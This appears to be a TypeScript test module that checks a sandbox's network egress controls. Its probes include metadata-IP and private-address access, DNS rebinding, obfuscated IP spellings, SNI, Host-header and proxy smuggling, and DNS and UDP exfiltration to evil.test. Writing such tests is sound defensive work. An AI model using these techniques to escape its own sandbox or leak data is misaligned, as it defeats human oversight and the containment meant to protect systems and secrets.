// Attacks by the network: other hosts and addresses, names that resolve to private addresses, tunnels in DNS, lies about the host.
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns';
import { connect, createServer, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { after, type Outcome, outcome, type Probe, reasonOf, type Setting } from './outcome.ts';
import { credentials, direct, forwarded, proxy, reach, talk, throughTunnel, tunnel } from './reach.ts';

const to =
  (host: string, port: number, wanted: string): Probe =>
  () =>
    reach(host, port, wanted);

async function fetchAllowed(): Promise<Outcome> {
  try {
    const text = await (await fetch('http://allowed.test/')).text();
    return outcome(text.includes('LAB 203.0.113.10') ? 'ALLOWED' : 'DENIED', text.slice(0, 60));
  } catch (error) {
    return outcome('DENIED', reasonOf(error instanceof Error && error.cause !== undefined ? error.cause : error));
  }
}

async function flip(): Promise<Outcome> {
  for (let turn = 0; turn < 8; turn += 1) {
    const { result, detail } = await reach('flip.test', 80, 'LAB 10.66');
    if (result === 'ALLOWED') return outcome(result, detail);
  }
  return outcome('DENIED', '8 tries');
}

const SPELLINGS = [
  '172097541',
  '0x0a420005',
  '012.0102.0.5',
  '10.66.5',
  '[::ffff:10.66.0.5]',
  '[::ffff:a42:5]',
  '10.66.0.5.',
  '%31%30.66.0.5',
];
const CONFUSING = [
  'allowed.test.evil.test',
  'evil.test#allowed.test',
  'allowed.test@evil.test',
  'evil.test\\allowed.test',
  'evil.test%00.allowed.test',
  'evil.test\tallowed.test',
];

/** Tries each spelling by every way. */
async function anyOf(names: readonly string[], port: number, wanted: string): Promise<Outcome> {
  const seen: string[] = [];
  for (const name of names) {
    const ways = [
      await direct(name.replace(/^\[|\]$/g, ''), port, 'GET / HTTP/1.0\r\n\r\n', 800),
      await throughTunnel(`${name}:${port}`, name),
      await forwarded(`http://${name}:${port}/`),
    ];
    if (ways.some(({ body }) => body.includes(wanted))) seen.push(name);
  }
  return outcome(seen.length > 0 ? 'ALLOWED' : 'DENIED', seen.join(' '));
}

/** The granted name by DNS, another one inside TLS. */
async function otherServerName(): Promise<Outcome> {
  const { socket: raw } = await tunnel('allowed.test:443');
  const where = raw === undefined ? { host: 'allowed.test', port: 443 } : { socket: raw };
  const socket = connectTls({ ...where, servername: 'evil.test', rejectUnauthorized: false });
  socket.once('secureConnect', () => socket.write('GET / HTTP/1.1\r\n\r\n'));
  const { body, end } = await talk(socket, '');
  return body.includes('sni=evil.test') ? outcome('ALLOWED', body.slice(-40)) : outcome('DENIED', body.slice(0, 60) || end);
}

async function otherHostHeader(): Promise<Outcome> {
  const wanted = '203.0.113.10:80 host=evil.test';
  const straight = await direct('allowed.test', 80, 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n');
  const tunnelled = await throughTunnel('allowed.test:80', 'evil.test');
  const isIn = straight.body.includes(wanted) || tunnelled.body.includes(wanted);
  return outcome(isIn ? 'ALLOWED' : 'DENIED', `${straight.end} ${tunnelled.end}`);
}

/** One connection: the first request is honest, the second names another host. */
async function secondRequest(): Promise<Outcome> {
  const socket: Socket = (await tunnel('allowed.test:80')).socket ?? connect(80, 'allowed.test');
  return new Promise((resolve) => {
    let body = '';
    let hasAsked = false;
    const finish = (): void => resolve(outcome(body.includes('host=evil.test') ? 'ALLOWED' : 'DENIED', body.slice(-60)));
    socket.on('error', finish).on('close', finish);
    socket.setTimeout(2500, () => socket.destroy());
    socket.on('data', (chunk) => {
      body += chunk.toString('latin1');
      if (hasAsked || !body.includes('LAB ')) return;
      hasAsked = true;
      socket.write('GET /two HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n');
    });
    socket.write('GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\n');
  });
}

async function smuggleByProxy(): Promise<Outcome> {
  const by = proxy();
  if (by === undefined) return outcome('NA', 'no proxy');
  const request = (host: string): string => `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n${credentials(by)}\r\n`;
  const { body } = await direct(by.hostname, Number(by.port), request('allowed.test') + request('evil.test'));
  return outcome(body.includes('LAB 203.0.113.66') ? 'ALLOWED' : 'DENIED', body.split('\r\n')[0]);
}

const leakByResolver = ({ word }: Setting): Promise<Outcome> =>
  Promise.race([
    new Promise<Outcome>((resolve) => {
      lookup(`leak1-${word}.evil.test`, (error, address) =>
        resolve(outcome(error ? 'DENIED' : 'ALLOWED', error?.code ?? address)),
      );
    }),
    after(6000).then(() => outcome('DENIED', 'timeout')),
  ]);

function questionFor(...labels: readonly string[]): Buffer {
  const head = Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([
    head,
    ...labels.map((label) => Buffer.from([label.length, ...Buffer.from(label)])),
    Buffer.from([0, 0, 1, 0, 1]),
  ]);
}

function sendUdp(packet: Buffer, port: number, address: string, waitMs: number): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    socket.on('message', () => resolve(outcome('ALLOWED', 'answered')));
    socket.on('error', (error) => resolve(outcome('DENIED', reasonOf(error))));
    socket.send(packet, port, address, (error) => error && resolve(outcome('DENIED', reasonOf(error))));
    setTimeout(() => resolve(outcome('DENIED', 'no answer')), waitMs);
  });
}

async function leakByProxy({ word }: Setting): Promise<Outcome> {
  const { socket, why } = await tunnel(`leak3-${word}.evil.test:443`);
  socket?.destroy();
  return why === 'no proxy' ? outcome('NA', why) : outcome('DENIED', why);
}

function listenForHost(): Promise<Outcome> {
  return new Promise((resolve) => {
    const server = createServer((socket) => socket.end('BACKDOOR'));
    server.on('error', (error) => resolve(outcome('DENIED', reasonOf(error))));
    server.listen(44_444, '0.0.0.0', () => {
      process.stdout.write('LISTENING\n');
      setTimeout(() => resolve(outcome('ALLOWED', 'listening (the host looks)')), 1500);
    });
  });
}

/** Attacks by the network. The two that end in `(works?)` must be allowed. */
export const networkProbes: Readonly<Record<string, Probe>> = {
  'net.allowed-host-http(works?)': to('allowed.test', 80, 'LAB 203.0.113.10'),
  'net.allowed-host-fetch(works?)': fetchAllowed,
  'net.other-host': to('evil.test', 80, 'LAB 203.0.113.66'),
  'net.other-ip': to('203.0.113.66', 80, 'LAB 203.0.113.66'),
  'net.metadata-ip': to('169.254.169.254', 80, 'LAB 169.254'),
  'net.private-ip': to('10.66.0.5', 8080, 'LAB 10.66'),
  'net.host-loopback': to('127.0.0.1', 9999, 'LAB hostloop'),
  'net.host-own-ip': to('192.0.2.1', 9998, 'LAB hostown'),
  'net.ipv6': to('fd00:bad::66', 80, 'LAB fd00'),
  'net.rebind-to-metadata': to('rebind.test', 80, 'LAB 169.254'),
  'net.rebind-to-private': to('rebind10.test', 8080, 'LAB 10.66'),
  'net.rebind-to-loopback': to('rebindloop.test', 9999, 'LAB hostloop'),
  'net.rebind-flip': flip,
  'net.ip-spellings': () => anyOf(SPELLINGS, 8080, 'LAB 10.66'),
  'net.name-confusion': () => anyOf(CONFUSING, 80, 'LAB 203.0.113.66'),
  'net.sni-mismatch': otherServerName,
  'net.host-header-mismatch': otherHostHeader,
  'net.second-request-host': secondRequest,
  'net.proxy-smuggle': smuggleByProxy,
  'net.dns-tunnel-resolver': leakByResolver,
  'net.dns-tunnel-direct': ({ word }) => sendUdp(questionFor(`leak2-${word}`, 'evil', 'test'), 53, '203.0.113.53', 1500),
  'net.dns-tunnel-proxy': leakByProxy,
  'net.udp-exfil': async ({ word }) => {
    const { detail } = await sendUdp(Buffer.from(`exfil-${word}`), 9000, '203.0.113.66', 500);
    return outcome('ALLOWED', `${detail} (the host looks)`);
  },
  'net.listen-for-host': listenForHost,
};
